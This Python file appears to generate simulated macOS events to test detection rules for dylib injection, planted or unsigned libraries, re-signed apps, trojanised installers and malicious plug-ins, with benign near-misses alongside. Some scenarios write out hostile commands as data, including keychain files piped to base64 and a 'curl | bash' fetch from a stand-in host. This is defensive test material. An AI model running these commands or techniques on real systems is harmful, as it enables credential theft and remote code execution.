"""Libraries: S08 to S14, S17, S20."""

from book import Book
from mac import AD_HOC, HARDENED, HOME, LAUNCHD, PLAIN, SHELL, TEMP, Library, Program, apple
from people import (APPLESCRIPT, BASH, CHAT, CODESIGN, CP, CURL, EDITOR, EDITOR_KIT, INSTALLD, JAVASCRIPT, LOOSE, LOOSE_KIT, PYTHON,
                    QLMANAGE, SAVER_HOST, SH, STANDARD_ADDITIONS, STUDIO, dropped)

BOOK = Book()
HOOK = "/Users/Shared/.cache/libhook.dylib"


# --- S08, S20

def injected_by_environment(mac):
    """A script starts an application without the hardened runtime with DYLD_INSERT_LIBRARIES, and dyld maps the library of
    nobody in particular that it names."""
    launcher = mac.start(SH, SHELL, ["sh", "/tmp/run.sh"])
    mac.begin()
    p = mac.start(LOOSE, launcher, env=["DYLD_INSERT_LIBRARIES=" + HOOK])
    mac.load(p, LOOSE_KIT)
    mac.wait()
    mac.load(p, Library(HOOK, "adhoc", identifier="libhook"))
    mac.end()
    return LOOSE.path


BOOK.attack("S08", "library by environment", "Library injected by DYLD_INSERT_LIBRARIES", injected_by_environment, span=15,
            other="elastic", weak=["S08", "S08-weak"], allow=["S09", "S09-weak", "S20"])


def injected_by_path(mac):
    """A fake browser is started with DYLD_FRAMEWORK_PATH, so that a framework of its own name is found in the user's
    Library before the real one."""
    directory = HOME + "/Library/Caches/GameKit"
    mac.begin()
    p = mac.start(LOOSE, mac.start(BASH, SHELL), env=["DYLD_FRAMEWORK_PATH=" + directory])
    mac.wait()
    mac.load(p, Library(directory + "/LarkspurKit.framework/Versions/A/LarkspurKit", "adhoc", identifier="LarkspurKit", born=-600))
    mac.end()
    return LOOSE.path


BOOK.attack("S08", "library by environment", "Framework found by DYLD_FRAMEWORK_PATH", injected_by_path, span=15, name="path",
            other="mac-monitor", variants=["plain", "order_noise", "delays", "other_sensor"], allow=["S20", "S09-library"])


def injected_by_launchd(mac):
    """Somebody sets DYLD_INSERT_LIBRARIES for the whole session with launchctl. The next application that the user starts without the hardened
    runtime maps his library, and launchd is its parent."""
    library = HOME + "/Library/Fonts/.fontd/libfontd.dylib"
    mac.exit(mac.start(apple("/bin/launchctl", "com.apple.launchctl"), SHELL, ["launchctl", "setenv", "DYLD_INSERT_LIBRARIES", library]))
    mac.begin()
    p = mac.start(LOOSE, LAUNCHD, env=["DYLD_INSERT_LIBRARIES=" + library])
    mac.wait()
    mac.load(p, Library(library, "signed", "F0RE1GNTM5", "fontd"))
    mac.end()
    return LOOSE.path


BOOK.attack("S08", "library by environment", "Library injected by launchctl setenv", injected_by_launchd, span=15, name="session",
            other="elastic", variants=["plain", "order_noise", "delays", "other_sensor"], allow=["S20", "S09"])


def injected_from_node_modules(mac):
    """As above; the library lies where package managers keep theirs, which anybody can write to, and the directory is spelled oddly."""
    path = HOME + "/src/site/node_modules/.bin/libfast.dylib"
    curl = mac.start(CURL, SHELL)
    mac.write(curl, path)
    mac.exit(curl)
    mac.begin()
    p = mac.start(LOOSE, SHELL, env=["DYLD_LIBRARY_PATH=/users/robin/src/other/..//Site/node_modules"])
    mac.wait()
    mac.load(p, Library(path, born=None))
    mac.end()
    return LOOSE.path


BOOK.attack("S08", "library by environment", "Library injected from a package manager's directory", injected_from_node_modules, span=15,
            name="developer-place", allow=["S20"])


def variable_ignored(mac):
    """The same variable before a hardened application: dyld ignores it and maps nothing of it."""
    p = mac.start(EDITOR, mac.start(SH, SHELL), env=["DYLD_INSERT_LIBRARIES=" + HOOK])
    mac.load(p, EDITOR_KIT)
    mac.wait()
    mac.load(p, "/usr/lib/libobjc-trampolines.dylib")


def own_team_inserted(mac):
    """A vendor's helper inserts a library of the vendor's own team into the vendor's application."""
    helper = Program("/Applications/Larkspur.app/Contents/Helpers/larkspur-launch", "com.example.larkspur.launch", PLAIN, LOOSE.team)
    library = Library("/Applications/Larkspur.app/Contents/Frameworks/libcrashcatcher.dylib", "signed", LOOSE.team,
                      "com.example.larkspur.crashcatcher")
    p = mac.start(LOOSE, mac.start(helper, LAUNCHD), env=["DYLD_INSERT_LIBRARIES=" + library.path])
    mac.wait()
    mac.load(p, library)


BOOK.near_miss("S08", "ignored", "Variable that a hardened application ignores", variable_ignored)
BOOK.near_miss("S08", "own-team", "Library of the application's own team inserted", own_team_inserted)


def variable_only(mac):
    """Somebody tries to make a hardened application load his library by a variable. It has no effect; that it was tried is
    worth knowing when one hunts."""
    mac.begin()
    mac.start(EDITOR, mac.start(SH, SHELL), env=["DYLD_INSERT_LIBRARIES=/private/tmp/x.dylib"])
    mac.end()
    return EDITOR.path


BOOK.attack("S20", "library by environment", "DYLD_INSERT_LIBRARIES tried on a hardened application", variable_only,
            other="santa", weak=["S20"], variants=["plain", "order_noise", "other_sensor"])


def harmless_variable(mac):
    """A program is started with a variable that has dyld print what it does, and names no place."""
    mac.start(LOOSE, SHELL, env=["DYLD_PRINT_LIBRARIES=1"])


BOOK.near_miss("S20", "printing", "Variable that has dyld print", harmless_variable)


# --- S09

def foreign_from_shared(mac):
    """A trusted application maps a library of another team out of a hidden folder that anybody may write to: a plug-in of
    an implant, loaded by dlopen."""
    p = mac.start(STUDIO, LAUNCHD)
    mac.wait(1)
    mac.begin()
    mac.load(p, Library("/Users/Shared/.session/libsession.dylib", "signed", "F0RE1GNTM5", "session"))
    mac.end()
    return STUDIO.path


BOOK.attack("S09", "foreign library", "Library of another team mapped from a shared folder", foreign_from_shared, other="elastic",
            weak=["S09", "S09-weak"])


def unsigned_from_tmp(mac):
    """A trusted application maps an unsigned library that somebody's script left in a temporary folder."""
    script = mac.start(SH, SHELL, ["sh", "-c", "curl"])
    curl = mac.start(CURL, script, ["curl", "-o", "/tmp/libfont.dylib", "https://cdn.example/f"])
    mac.write(curl, "/private/tmp/libfont.dylib")
    p = mac.start(STUDIO, LAUNCHD)
    mac.wait(1)
    mac.begin()
    mac.load(p, Library("/private/tmp/libfont.dylib", "unsigned"))
    mac.end()
    return STUDIO.path


BOOK.attack("S09", "foreign library", "Unsigned library mapped from a temporary folder", unsigned_from_tmp, name="tmp",
            other="mac-monitor", variants=["plain", "order_noise", "other_sensor"])


def named_like_java(mac):
    """An Electron application maps a library that curl has put into the temporary directory, under the name of one of Java's."""
    path = TEMP + "/jna8213.tmp"
    curl = mac.start(CURL, SHELL)
    mac.write(curl, path)
    mac.exit(curl)
    p = mac.start(CHAT, LAUNCHD)
    mac.wait()
    mac.begin()
    mac.load(p, Library(path, born=None))
    mac.end()
    return CHAT.path


BOOK.attack("S09", "foreign library", "Library of a Java name in the temporary directory of a program with a JIT", named_like_java,
            name="java-name", variants=["plain"])


def own_library_from_tmp(mac):
    """An application unpacks a library of its own team into a temporary folder and maps it."""
    p = mac.start(STUDIO, LAUNCHD)
    path = TEMP + "/tonehaus-2211/libcodec.dylib"
    mac.write(p, path)
    mac.wait()
    mac.load(p, Library(path, "signed", STUDIO.team, "com.example.tonehaus4.codec"))


def foreign_from_library(mac):
    """An application maps the plug-in of another vendor from where plug-ins lie."""
    p = mac.start(STUDIO, LAUNCHD)
    mac.wait(1)
    mac.load(p, Library("/Library/Audio/Plug-Ins/VST3/Reverb.vst3/Contents/MacOS/Reverb", "signed", "REVERB0X77", "com.example.reverb"))
    mac.load(p, Library(HOME + "/Library/Audio/Plug-Ins/Components/Tape.component/Contents/MacOS/Tape", "signed", "TAPEM4CH1N",
                        "com.example.tape"))


BOOK.near_miss("S09", "own-team", "Application unpacks a library of its own", own_library_from_tmp)
BOOK.near_miss("S09", "plug-ins", "Plug-ins of other vendors from where they lie", foreign_from_library)


# --- S10

PLANTED = "/Applications/Tonehaus 4.app/Contents/Frameworks/libsamplerate.dylib"


def plant(mac, by, library=None):
    mac.begin()
    mac.write(by, PLANTED)
    mac.wait()
    p = mac.start(STUDIO, LAUNCHD)
    mac.load(p, library or Library(PLANTED, "adhoc", identifier="libsamplerate"))
    mac.end()
    return STUDIO.path


def planted_by_script(mac):
    """A script copies a library into an application, where its name is looked for first. When its user next starts the
    application, it maps that library."""
    return plant(mac, mac.start(CP, mac.start(SH, SHELL), ["cp", "/tmp/.l", PLANTED]))


def planted_by_stranger(mac):
    """An untrusted program writes a library into an application, which maps it."""
    return plant(mac, mac.start(dropped("/opt/tools/patcher", "patcher", born=-9 * 86400.0)))


BOOK.attack("S10", "planted library", "Library planted in an application by a script", planted_by_script, span=86400,
            other="elastic", weak=["S10", "S10-weak"], weak_act=planted_by_stranger, allow=["S10-age"])
BOOK.attack("S10", "planted library", "Library planted in an application by a script", planted_by_script, name="mac-monitor",
            other="mac-monitor", variants=["other_sensor"])


BOOK.attack("S10-unsure", "planted library", "Library of unknown signer planted by a script", planted_by_script, variants=["weak"],
            weak=["S10", "S10-unsure"])


def planted_by_rename(mac):
    """A script downloads a library under another name and moves it into an application, over the one that was there."""
    script = mac.start(SH, SHELL, ["sh", "-s"])
    curl = mac.start(CURL, script, ["curl", "-o", "/tmp/a.part", "https://cdn.example/l"])
    mac.write(curl, "/private/tmp/a.part")
    mover = mac.start(apple("/bin/mv", "com.apple.mv"), script, ["mv", "/tmp/a.part", PLANTED])
    mac.begin()
    mac.rename(mover, "/private/tmp/a.part", PLANTED)
    mac.wait()
    p = mac.start(STUDIO, LAUNCHD)
    mac.load(p, Library(PLANTED, "signed", "F0RE1GNTM5", "libsamplerate"))
    mac.end()
    return STUDIO.path


BOOK.attack("S10", "planted library", "Library moved into an application", planted_by_rename, span=86400, name="rename", other="elastic",
            variants=["plain", "order_noise", "delays", "other_sensor"])


def planted_by_self_called_updater(mac):
    """A program of some team, which calls itself as an updater does, writes a library of its team into an application of another."""
    updater = Program("/Users/Shared/Autoupdate", "org.sparkle-project.Sparkle.Autoupdate", PLAIN, "SELFCALL01", born=-60.0)
    return plant(mac, mac.start(updater), Library(PLANTED, "signed", "SELFCALL01", "kit"))


BOOK.attack("S10", "planted library", "Library planted by what calls itself an updater", planted_by_self_called_updater, name="updater-name",
            variants=["plain"])


def planted_without_extension(mac):
    """As S10 has it, but the library is called as data are, and lies among the application's resources."""
    path = EDITOR.path.rpartition("/MacOS/")[0] + "/Resources/assets.bin"
    p = mac.start(dropped("/opt/tools/patcher", "patcher", born=-9 * 86400.0))
    mac.begin()
    mac.write(p, path)
    mac.wait()
    mac.load(mac.start(EDITOR, LAUNCHD), Library(path, born=None))
    mac.end()
    return EDITOR.path


BOOK.attack("S10", "planted library", "Library planted under the name of data", planted_without_extension, name="no-extension",
            variants=["plain"], expect=["S10-age"])


def planted_unseen(mac):
    """An application maps a library of nobody in particular that is in it since an hour, while the application itself is
    months old. Who wrote it was not seen."""
    p = mac.start(STUDIO, LAUNCHD)
    mac.wait(1)
    mac.begin()
    mac.load(p, Library(PLANTED, "adhoc", identifier="libsamplerate", born=-3600.0))
    mac.end()
    return STUDIO.path


BOOK.attack("S10", "planted library", "Young library in an old application", planted_unseen, name="age", variants=["weak"],
            weak=["S10", "S10-age"], weak_images=True, weak_note="")


def installed(mac):
    """Apple's installer updates an application and a library of another team in it, which it maps."""
    mac.write(INSTALLD, PLANTED)
    mac.wait()
    p = mac.start(STUDIO, LAUNCHD)
    mac.load(p, Library(PLANTED, "signed", "SAMPLERAT3", "com.example.samplerate"))


def own_update(mac):
    """An application's own updater writes a library of the same team into it."""
    updater = Program("/Applications/Tonehaus 4.app/Contents/Helpers/Update", "com.example.tonehaus4.update", HARDENED, STUDIO.team)
    mac.write(mac.start(updater, LAUNCHD), PLANTED)
    mac.wait()
    p = mac.start(STUDIO, LAUNCHD)
    mac.load(p, Library(PLANTED, "signed", STUDIO.team, "com.example.tonehaus4.samplerate"))


def planted_long_ago(mac):
    """A script copies a library into an application, and more than a day passes before it is mapped."""
    copier = mac.start(CP, mac.start(SH, SHELL), ["cp", "/tmp/.l", PLANTED])
    mac.write(copier, PLANTED)
    mac.wait(26 * 3600)
    p = mac.start(STUDIO, LAUNCHD)
    mac.load(p, Library(PLANTED, "adhoc", identifier="libsamplerate"))


BOOK.near_miss("S10", "installer", "Installer writes a library into an application", installed)
BOOK.near_miss("S10", "own-updater", "Application's updater writes a library into it", own_update)
BOOK.near_miss("S10", "a-day-later", "Planted library mapped more than a day later", planted_long_ago)


# --- S11

RESIGNED = Program(CHAT.path, "com.example.murmel", AD_HOC, born=-60.0, build="robbed")


def rewrite_chat(mac):
    """A chat program is rewritten by a stranger, who inserts a load command and signs it ad hoc. When its user starts it the
    next time, it maps a library that nobody has seen before."""
    old = mac.start(CHAT, LAUNCHD)
    mac.wait(1)
    mac.exit(old)
    robber = mac.start(dropped("/opt/tools/robber", "robber", born=-9 * 86400.0))
    mac.begin()
    mac.close(robber, CHAT.path)
    mac.wait()
    signer = mac.start(CODESIGN, robber, ["codesign", "-f", "-s", "-", CHAT.path])
    mac.exit(signer)
    p = mac.start(RESIGNED, LAUNCHD)
    mac.wait()
    mac.load(p, Library("/Applications/Murmel.app/Contents/Frameworks/libchatrob.dylib", "adhoc", identifier="libchatrob",
                        is_known=False))
    mac.end()
    return CHAT.path


def resigned_only(mac):
    """A chat program that had a team is started ad hoc. Who rewrote it, and what it maps, is not seen."""
    old = mac.start(CHAT, LAUNCHD)
    mac.wait(1)
    mac.exit(old)
    mac.wait(3)
    mac.begin()
    mac.start(RESIGNED, LAUNCHD)
    mac.end()
    return CHAT.path


BOOK.attack("S11", "application tampered with", "Chat program rewritten, its team lost, a new library mapped", rewrite_chat,
            span=7200, other="mac-monitor", weak=["S11", "S11-exec"], weak_act=resigned_only, weak_images=True,
            weak_note="The sensor reports no files.", allow=["S11-exec"])
BOOK.attack("S11", "application tampered with", "Chat program rewritten, its team lost, a new library mapped", rewrite_chat,
            name="jamf", other="jamf", other_expect=["S11", "S11-exec"], variants=["other_sensor"],
            other_note="Jamf shows neither files nor libraries; what remains is that the team is lost.")


def rewritten_unmet(mac):
    """A stranger rewrites an application that was not started while anybody looked. It starts ad hoc."""
    robber = mac.start(dropped("/opt/tools/robber", "robber", born=-9 * 86400.0))
    mac.begin()
    mac.close(robber, CHAT.path)
    mac.wait()
    mac.start(RESIGNED, LAUNCHD)
    mac.end()
    return CHAT.path


BOOK.attack("S11-weak", "application tampered with", "Application rewritten and started ad hoc", rewritten_unmet, span=7200, other="mac-monitor",
            variants=["plain", "order_noise", "delays", "other_sensor"])


def updated_chat(mac):
    """A chat program is brought up to date by its own updater and starts with the same team and new libraries."""
    old = mac.start(CHAT, LAUNCHD)
    updater = Program("/Applications/Murmel.app/Contents/Frameworks/Squirrel.framework/Resources/ShipIt", "ShipIt", HARDENED, CHAT.team)
    u = mac.start(updater, LAUNCHD)
    mac.exit(old)
    mac.rename(u, HOME + "/Library/Caches/com.example.murmel.ShipIt/update.8KQx/Murmel.app/Contents/MacOS/Murmel", CHAT.path)
    mac.wait()
    p = mac.start(Program(CHAT.path, "com.example.murmel", HARDENED, CHAT.team, born=-30.0, jit="yes", build="2"), LAUNCHD)
    mac.wait()
    mac.load(p, Library("/Applications/Murmel.app/Contents/Frameworks/libvoice.dylib", "signed", CHAT.team, "com.example.murmel.voice"))


BOOK.near_miss("S11", "own-updater", "Chat program brought up to date", updated_chat)


# --- S12

PIRATED = Program("/Volumes/Quill 24/Quill.app/Contents/MacOS/Quill", "com.example.quill", AD_HOC, born=-3 * 86400.0,
                  frameworks=("AppKit",))
CONFIGURER = Library("/Volumes/Quill 24/Quill.app/Contents/Frameworks/libConfig64.dylib", "unsigned", born=-3 * 86400.0)


def pirated(mac, program=PIRATED, library=CONFIGURER):
    """A pirated application is started from its disk image. It maps an unsigned library that its vendor never put there, and
    then starts a hidden program in a temporary folder."""
    mac.begin()
    p = mac.start(program, LAUNCHD)
    mac.wait()
    mac.load(p, library)
    mac.write(p, "/private/tmp/.test")
    mac.wait()
    mac.start(dropped("/private/tmp/.test", "test", born=mac.now), p)
    mac.end()
    return program.path


BOOK.attack("S12", "trojanised application", "Pirated application starts a hidden program", pirated, span=120, other="elastic",
            weak=["S12", "S12-weak"], allow=["S24", "S15"])
BOOK.attack("S12", "trojanised application", "Pirated application starts a hidden program", pirated, name="mac-monitor",
            other="mac-monitor", variants=["other_sensor"], allow=["S24", "S15"])


def supply_chain(mac):
    """A vendor was robbed: a library of the vendor's own team, new with the last update, leaves a program in the user's Library and
    starts it."""
    mac.begin()
    p = mac.start(EDITOR, LAUNCHD)
    mac.load(p, EDITOR_KIT)
    mac.wait()
    mac.load(p, Library("/Applications/Parlo.app/Contents/Frameworks/libffcodec.dylib", "signed", EDITOR.team, "libffcodec", is_known=False))
    path = HOME + "/Library/Application Support/Parlo/UpdateAgent"
    mac.write(p, path)
    mac.wait()
    mac.start(dropped(path, "UpdateAgent", born=mac.now), p)
    mac.end()
    return EDITOR.path


BOOK.attack("S12", "trojanised application", "Vendor's own library starts a program in the user's Library", supply_chain, span=120,
            name="supply-chain", expect=["S12", "S12-weak"], weak=["S12", "S12-weak"], other="elastic",
            variants=["plain", "order_noise", "delays", "other_sensor", "weak"])


def unpacks_a_helper(mac):
    """An application with a library of its own team unpacks a signed helper into its Application Support folder and
    starts it."""
    p = mac.start(EDITOR, LAUNCHD)
    mac.load(p, EDITOR_KIT)
    helper = HOME + "/Library/Application Support/Parlo/parlo-helper"
    mac.write(p, helper)
    mac.wait()
    mac.start(Program(helper, "com.example.parlo.helper", HARDENED, EDITOR.team, born=-1.0), p)


def trojan_without_child(mac):
    """An application on a disk image maps an unsigned library of its own, and starts a tool of macOS's."""
    p = mac.start(PIRATED, LAUNCHD)
    mac.load(p, CONFIGURER)
    mac.wait()
    mac.start(CURL, p, ["curl", "-sI", "https://quill.example/version"])


BOOK.near_miss("S12", "signed-helper", "Application unpacks a signed helper", unpacks_a_helper)
BOOK.near_miss("S12", "no-hidden-child", "Unsigned library, but no hidden program", trojan_without_child)


# --- S13

def script_engine(mac, engine=APPLESCRIPT):
    """A downloaded application without a team runs AppleScript inside of itself, by NSAppleScript, and its script asks a
    shell to collect what it wants."""
    program = Program(HOME + "/Downloads/Pagekit.app/Contents/MacOS/Pagekit", "Pagekit-5555494e", AD_HOC, born=-1800.0,
                      frameworks=("AppKit", "Foundation"))
    p = mac.start(program, LAUNCHD)
    mac.begin()
    mac.load(p, engine)
    mac.wait()
    mac.load(p, STANDARD_ADDITIONS)
    mac.wait()
    mac.start(SH, p, ["sh", "-c", "cat ~/Library/Keychains/*.db | base64"])
    mac.end()
    return program.path


def script_engine_only(mac):
    """A downloaded application without a team runs AppleScript inside of itself. What its script starts is not seen."""
    program = Program(HOME + "/Downloads/Pagekit.app/Contents/MacOS/Pagekit", "Pagekit-5555494e", AD_HOC, born=-1800.0)
    p = mac.start(program, LAUNCHD)
    mac.begin()
    mac.load(p, JAVASCRIPT)
    mac.wait()
    mac.load(p, STANDARD_ADDITIONS)
    mac.end()
    return program.path


BOOK.attack("S13", "script engine in a program", "Downloaded application runs AppleScript, then a shell", script_engine, span=120,
            other="elastic", weak=["S13", "S13-additions"], weak_act=script_engine_only, weak_note="", allow=["S13-additions"])
BOOK.attack("S13", "script engine in a program", "Downloaded application runs AppleScript, then a shell", script_engine,
            name="mac-monitor", other="mac-monitor", variants=["other_sensor"], allow=["S13-additions"])


def applet(mac):
    """An applet that somebody exported from Script Editor months ago, ad-hoc signed, in the user's Applications folder, asks
    a shell for the free space of a disk."""
    program = Program(HOME + "/Applications/Free Space.app/Contents/MacOS/applet", "com.apple.ScriptEditor.id.free-space", AD_HOC)
    p = mac.start(program, LAUNCHD)
    mac.load(p, APPLESCRIPT)
    mac.wait()
    mac.load(p, STANDARD_ADDITIONS)
    mac.wait()
    mac.start(SH, p, ["sh", "-c", "df -h /"])


def signed_automation(mac):
    """A signed productivity tool runs a user's script, which starts a shell."""
    program = Program("/Applications/Shortcutter.app/Contents/MacOS/Shortcutter", "com.example.shortcutter", HARDENED, "SH0RTCUT3R")
    p = mac.start(program, LAUNCHD)
    mac.load(p, JAVASCRIPT)
    mac.load(p, STANDARD_ADDITIONS)
    mac.wait()
    mac.start(SH, p, ["sh", "-c", "date"])


BOOK.near_miss("S13", "applet", "User's own applet asks a shell", applet)
BOOK.near_miss("S13", "signed", "Signed automation tool runs a script", signed_automation)


# --- S14

def odd_module(mac):
    """A script in Python maps a library of an odd name from the user's folders by ctypes, and deletes it at once."""
    p = mac.start(PYTHON, SHELL, ["python3", "app.py"])
    path = HOME + "/projects/trade/.cache/model.dat"
    mac.write(p, path)
    mac.begin()
    mac.load(p, Library(path, "unsigned"))
    mac.wait()
    mac.unlink(p, path)
    mac.end()
    return PYTHON.path


BOOK.attack("S14", "interpreter's library deleted", "Python maps an oddly named library and deletes it", odd_module, span=30,
            other="elastic", weak=["S14", "S14-weak"], allow=["S14-load"])
BOOK.attack("S14", "interpreter's library deleted", "Python maps an oddly named library and deletes it", odd_module,
            name="mac-monitor", other="mac-monitor", variants=["other_sensor"])


def odd_module_stays(mac):
    """A script in Python maps an unsigned library of an odd name out of a temporary folder, and leaves it there."""
    p = mac.start(PYTHON, SHELL, ["python3", "app.py"])
    path = "/private/tmp/.model.dat"
    mac.write(p, path)
    mac.begin()
    mac.load(p, Library(path, "unsigned"))
    mac.end()
    return PYTHON.path


BOOK.attack("S14-load", "interpreter's library deleted", "Python maps an oddly named library", odd_module_stays, other="elastic",
            variants=["plain", "order_noise", "other_sensor", "weak"], weak=["S14-load"])


def named_as_ever(mac):
    """A test of a Python package maps the extension module that it has just built, and removes it afterwards."""
    p = mac.start(PYTHON, SHELL, ["python3", "-m", "pytest"])
    path = TEMP + "/tmpa1b2c3/_speedups.cpython-313-darwin.so"
    mac.write(p, path)
    mac.load(p, Library(path, "adhoc"))
    mac.wait()
    mac.unlink(p, path)


def kept(mac):
    """A script in Python maps a library of an odd name, which stays where it is."""
    p = mac.start(PYTHON, SHELL, ["python3", "plot.py"])
    mac.load(p, Library(HOME + "/projects/plot/libplot.2", "adhoc"))
    mac.wait()
    mac.unlink(p, HOME + "/projects/plot/plot.tmp")


BOOK.near_miss("S14", "extension-module", "Extension module built, mapped and removed", named_as_ever)
BOOK.near_miss("S14", "kept", "Oddly named library that stays", kept)


# --- S17

def evil_saver(mac):
    """Somebody installs a screen saver for the user. Its host, a part of macOS, maps it, and it starts a shell."""
    path = HOME + "/Library/Screen Savers/Drift.saver/Contents/MacOS/Drift"
    copier = mac.start(CP, mac.start(SH, SHELL), ["cp", "-R", "/tmp/Drift.saver", path])
    mac.write(copier, path)
    p = mac.start(SAVER_HOST, LAUNCHD)
    mac.begin()
    mac.load(p, Library(path, "adhoc", identifier="com.example.drift"))
    mac.wait()
    mac.start(BASH, p, ["bash", "-c", "curl -s https://cdn.example/d | bash"])
    mac.end()
    return SAVER_HOST.path


BOOK.attack("S17", "plug-in runs something", "Screen saver starts a shell", evil_saver, span=300, other="elastic",
            weak=["S17", "S17-weak"], allow=["S17-load"])
BOOK.attack("S17", "plug-in runs something", "Screen saver starts a shell", evil_saver, name="mac-monitor", other="mac-monitor",
            variants=["other_sensor"])


def foreign_preview(mac):
    """Somebody installs a generator of previews, signed by a team that nobody has heard of, minutes ago. Apple's host maps it, and it
    starts a program."""
    path = HOME + "/Library/QuickLook/Notes.qlgenerator/Contents/MacOS/Notes"
    mac.write(mac.start(CP, mac.start(SH, SHELL), ["cp", "-R", "/tmp/N", path]), path)
    p = mac.start(QLMANAGE, LAUNCHD)
    mac.begin()
    mac.load(p, Library(path, "signed", "F0RE1GNTM5", "com.example.notes-preview"))
    mac.wait()
    mac.start(CURL, p, ["curl", "-s", "https://cdn.example/n"])
    mac.end()
    return QLMANAGE.path


BOOK.attack("S17", "plug-in runs something", "New preview generator starts a program", foreign_preview, span=300, name="preview",
            other="elastic", variants=["plain", "order_noise", "delays", "other_sensor"])


def signed_preview(mac):
    """A generator of previews of a vendor, which is here since long, is mapped by qlmanage and starts the vendor's
    converter."""
    p = mac.start(QLMANAGE, LAUNCHD)
    mac.load(p, Library("/Library/QuickLook/Drawing.qlgenerator/Contents/MacOS/Drawing", "signed", "DRAW1NGQL5", "com.example.drawing"))
    mac.wait()
    mac.start(Program("/Applications/Drawing.app/Contents/Helpers/convert", "com.example.drawing.convert", HARDENED, "DRAW1NGQL5"), p)


def saver_alone(mac):
    """An unsigned screen saver from a friend is mapped and draws."""
    p = mac.start(SAVER_HOST, LAUNCHD)
    mac.load(p, Library(HOME + "/Library/Screen Savers/Fireflies.saver/Contents/MacOS/Fireflies", "unsigned"))


BOOK.near_miss("S17", "signed", "Preview generator of a vendor starts its converter", signed_preview)
BOOK.near_miss("S17", "no-child", "Unsigned screen saver draws", saver_alone)
